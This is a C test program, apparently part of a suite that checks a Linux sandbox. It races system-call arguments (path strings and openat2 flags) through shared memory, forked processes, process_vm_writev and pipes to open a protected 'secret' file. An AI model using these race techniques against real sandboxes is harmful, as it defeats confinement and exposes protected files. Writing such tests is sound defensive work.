// Arguments changed by somebody else than a sibling thread: a process that shares the memory, one that shares a page,
// one that writes from afar, the kernel itself; and structures that arguments point to.
#include "attack.h"
#include <linux/openat2.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/uio.h>
static char *name;
static size_t start;
static char stack[1 << 16];
static volatile struct open_how *how;
static int flip(void *argument) {
    size_t first = strlen(open_file) - start + 1, second = strlen(secret) - start + 1;
    for (;;) {
        memcpy(name + start, secret + start, second);
        memcpy(name + start, open_file + start, first);
    }
    return argument != NULL;
}
static void write_from_afar(pid_t target) {
    struct iovec good = {open_file, strlen(open_file) + 1}, bad = {secret, strlen(secret) + 1}, there = {name, 256};
    for (;;) {
        there.iov_len = bad.iov_len, process_vm_writev(target, &bad, 1, &there, 1, 0);
        there.iov_len = good.iov_len, process_vm_writev(target, &good, 1, &there, 1, 0);
    }
}
static void *read_into(void *pipe_end) {
    for (;;) (void)!read(*(int *)pipe_end, name, 256);
    return NULL;
}
static void *fill(void *pipe_end) {
    char buffers[2][256] = {"", ""};
    strcpy(buffers[0], open_file), strcpy(buffers[1], secret);
    for (int i = 0;; i++) (void)!write(*(int *)pipe_end, buffers[i % 2], 256);
    return NULL;
}
static void *flip_how(void *argument) {
    for (;;) how->flags = O_RDWR, how->flags = O_RDONLY;
    return argument;
}
// To hold a name takes less than to open it.
static void *flip_how_look(void *argument) {
    for (;;) how->flags = O_RDWR, how->flags = O_PATH;
    return argument;
}
static void *flip_how_place(void *argument) {
    for (;;) how->resolve = 0, how->resolve = RESOLVE_IN_ROOT;
    return argument;
}
// A name that is entered or held, and from there another one: what the second leads to is decided on, whatever came of
// the first.
static int through(const char *way) {
    pthread_t thread;
    char folders[2][256];
    int enters = !strcmp(way, "enter");
    snprintf(folders[0], sizeof folders[0], "%s/open", arena);
    snprintf(folders[1], sizeof folders[1], "%s/closed", arena);
    if (enters) strcpy(open_file, folders[0]), strcpy(secret, folders[1]);
    strcpy(name, open_file);
    for (int i = 0; i < racers(); i++) pthread_create(&thread, NULL, (void *(*)(void *))flip, NULL);
    for (int i = 0; i < tries(); i++) {
        char again[64];
        if (enters) {
            if (chdir(name) == 0 && is_secret(open("secret", O_RDONLY))) return 1;
            continue;
        }
        int held = open(name, O_PATH);
        snprintf(again, sizeof again, "/proc/self/fd/%d", held);
        if (held >= 0 && is_secret(open(again, O_RDONLY))) return 1;
        close(held);
    }
    return 0;
}
static int attempt(const char *way) {
    if (!strcmp(way, "enter") || !strcmp(way, "hold")) return through(way);
    pthread_t thread, other;
    static int ends[2];
    pid_t helpers[8] = {0}, own = getpid();
    int won = 0;
    if (!strncmp(way, "how", 3)) {
        int place = !strcmp(way, "how place"), look = !strcmp(way, "how look"), top = open(arena, O_PATH);
        how = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        for (int i = 0; i < racers(); i++)
            pthread_create(&thread, NULL, place ? flip_how_place : look ? flip_how_look : flip_how, NULL);
        for (int i = 0; i < tries() && !won; i++) {
            if (place) {
                won = is_secret(syscall(SYS_openat2, top, "closed/secret", how, sizeof *how));
                continue;
            }
            int file = syscall(SYS_openat2, AT_FDCWD, readonly, how, sizeof *how);
            won = file >= 0 && (fcntl(file, F_GETFL) & (O_ACCMODE | O_PATH)) == O_RDWR;
            close(file);
        }
        return won;
    }
    if (!strcmp(way, "read") && pipe(ends) < 0) return 0;
    for (int i = 0; i < racers() && i < 8; i++) {
        char *top = stack + sizeof stack / 8 * (i + 1);
        if (!strcmp(way, "memory")) helpers[i] = clone(flip, top, CLONE_VM | SIGCHLD, NULL);
        else if (!strcmp(way, "page") && (helpers[i] = fork()) == 0) flip(NULL);
        else if (!strcmp(way, "afar") && (helpers[i] = fork()) == 0) write_from_afar(own);
        else if (!strcmp(way, "read")) {
            pthread_create(&thread, NULL, read_into, &ends[0]);
            pthread_create(&other, NULL, fill, &ends[1]);
        }
    }
    for (int i = 0; i < tries() && !won; i++) won = is_secret(open(name, O_RDONLY));
    for (int i = 0; i < 8; i++) {
        if (helpers[i] > 0) kill(helpers[i], SIGKILL);
    }
    return won;
}
int main(int argc, char **argv) {
    (void)argc;
    begin(argv);
    start = strlen(arena) + 1;
    name = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    strcpy(name, open_file);
    return each_way(argv, attempt);
}
